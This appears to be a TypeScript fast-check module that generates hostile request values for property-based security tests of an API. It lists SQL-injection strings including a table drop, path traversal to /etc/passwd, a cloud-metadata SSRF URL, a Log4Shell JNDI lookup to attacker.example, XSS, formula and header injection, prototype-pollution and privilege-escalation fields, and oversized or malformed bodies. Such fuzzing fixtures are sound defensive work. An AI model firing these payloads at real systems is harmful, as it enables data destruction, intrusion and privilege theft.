import fc from "fast-check";

/** What no honest client sends, one of each kind that has broken something somewhere. */

const texts: readonly string[] = [
  "",
  " ",
  "\n",
  "'",
  '"',
  "' or 1=1 --",
  "'; select pg_sleep(5); --",
  "1); drop table account; --",
  "%' and 1=cast(version() as int) and '%'='",
  "\\",
  "$1",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data",
  "<script>alert(1)</script>",
  "${jndi:ldap://attacker.example/a}",
  "{{7*7}}",
  "%00",
  "%ff",
  "__proto__",
  "constructor",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\u202e\u200b",
  "İ",
  "😀".repeat(200),
  "x".repeat(5_000),
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "9007199254740993",
  "99999999999999999999",
  "-1",
  "0.0000001",
  "0x10",
  "0000-00-00T00:00:00Z",
  "9999-12-31T23:59:60Z",
  "+275760-09-13T00:00:00.001Z",
  "key_00000000000000000000000000",
  "acc_7zzzzzzzzzzzzzzzzzzzzzzzzz",
  "acc_8zzzzzzzzzzzzzzzzzzzzzzzzz",
  "a@b",
  "a@b.c\r\nBcc: everybody@example.org",
  "=cmd|'/c calc'!A1",
];

const numbers: readonly number[] = [
  -1,
  0,
  -0,
  0.5,
  1e-9,
  2_147_483_648,
  4_294_967_296,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER - 2,
  1e308,
  5e-324,
];

/** Deeper than any body of ours, and shallower than what is refused for its depth. */
const nested: unknown = JSON.parse(`${"[".repeat(50)}${"]".repeat(50)}`);

const others: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  nested,
  Array.from({ length: 1_000 }, (_none, index) => index),
  // Read from text: written as a literal it would set the prototype, and not be a field.
  JSON.parse('{"__proto__":{"isAdmin":true}}'),
  JSON.parse('{"constructor":{"prototype":{"isAdmin":true}}}'),
  JSON.parse('{"toString":1,"hasOwnProperty":2,"valueOf":3}'),
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...texts),
  fc.string({ unit: "binary", maxLength: 40 }),
);
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  { weight: 2, arbitrary: fc.constantFrom(...numbers) },
  { weight: 2, arbitrary: fc.constantFrom(...others) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Fields that a client must never write (SEC-110). */
export const forbiddenFields: readonly (readonly [string, unknown])[] = [
  ["role", "admin"],
  ["isAdmin", true],
  ["balance", "1000000"],
  ["paid", "1000000"],
  ["email_verified", true],
  ["emailVerified", true],
  ["status", "active"],
  ["accountId", "acc_01h2xcejqtf2nbrexx3vqjhp41"],
  ["account_id", "acc_01h2xcejqtf2nbrexx3vqjhp41"],
  ["id", "key_01h2xcejqtf2nbrexx3vqjhp41"],
  ["version", 1],
  ["price", "0"],
  ["referrer_id", "acc_01h2xcejqtf2nbrexx3vqjhp41"],
  ["createdAt", "2000-01-01T00:00:00.000Z"],
  ["__proto__", { isAdmin: true }],
  ["constructor", { prototype: { isAdmin: true } }],
];

/** Whole bodies that are no document, or one that is not to be read (SEC-86, SEC-111). */
export const rawBodies: readonly (string | Uint8Array)[] = [
  "",
  "null",
  "true",
  "0",
  '"text"',
  "[]",
  "[[[[",
  '{"a":',
  "{'a':1}",
  '{"a":1,}',
  '{"a":NaN}',
  '{"a":1e309}',
  '{"a":1,"a":2}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  `${"[".repeat(20_000)}${"]".repeat(20_000)}`,
  `{"a":${'{"a":'.repeat(200)}1${"}".repeat(200)}}`,
  `{${Array.from({ length: 11_000 }, (_none, index) => `"${String(index)}":1`).join(",")}}`,
  `{"a":"${"x".repeat(300_000)}"}`,
  "\ufeff{}",
  new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  new Uint8Array([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d]),
  new Uint8Array([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00]),
];

type Path = readonly (string | number)[];

/** Every place in a value, the value itself first. */
function placesOf(value: unknown, at: Path = []): readonly Path[] {
  if (typeof value !== "object" || value === null) return [at];
  const entries: readonly (readonly [string | number, unknown])[] = Array.isArray(value)
    ? value.map((inner: unknown, index) => [index, inner] as const)
    : Object.entries(value);
  return [at, ...entries.flatMap(([key, inner]) => placesOf(inner, [...at, key]))];
}

export interface Mutation {
  readonly how: "replace" | "remove" | "add" | "repeat";
  /** Which of the places, counted around. */
  readonly at: number;
  readonly value: unknown;
  readonly field: readonly [string, unknown];
}

export const mutation: fc.Arbitrary<Mutation> = fc.record({
  how: fc.constantFrom("replace", "replace", "replace", "remove", "add", "repeat"),
  at: fc.nat({ max: 10_000 }),
  value: hostileValue,
  field: fc.constantFrom(...forbiddenFields),
});

/** The value with one place changed, as text of JSON. */
export function mutated(value: unknown, { how, at, value: hostile, field }: Mutation): string {
  const places = placesOf(value);
  const place = places[at % places.length] ?? [];
  const whole = changed(value, place, (inner) => changeOf(how, inner, hostile, field));
  return JSON.stringify(whole === undefined ? null : whole);
}

function changeOf(how: Mutation["how"], inner: unknown, hostile: unknown, field: Mutation["field"]): unknown {
  if (how === "add" && isPlain(inner)) return withField(inner, field);
  if (how === "repeat" && Array.isArray(inner))
    return Array.from({ length: 300 }, () => (inner as readonly unknown[])[0] ?? hostile);
  return how === "remove" ? undefined : hostile;
}

const isPlain = (value: unknown): value is Readonly<Record<string, unknown>> =>
  typeof value === "object" && value !== null && !Array.isArray(value);

/** Also of a name like `__proto__`, as a field and not as what it means to the language. */
export function withField(
  value: Readonly<Record<string, unknown>>,
  [name, inner]: readonly [string, unknown],
): unknown {
  const copy: Record<string, unknown> = { ...value };
  Object.defineProperty(copy, name, { value: inner, enumerable: true, configurable: true, writable: true });
  return copy;
}

function changed(value: unknown, [first, ...rest]: Path, change: (inner: unknown) => unknown): unknown {
  if (first === undefined) return change(value);
  if (Array.isArray(value))
    return value.map((inner: unknown, index) => (index === first ? changed(inner, rest, change) : inner));
  if (!isPlain(value)) return value;
  const copy: Record<string, unknown> = { ...value };
  copy[String(first)] = changed(value[String(first)], rest, change);
  return copy;
}
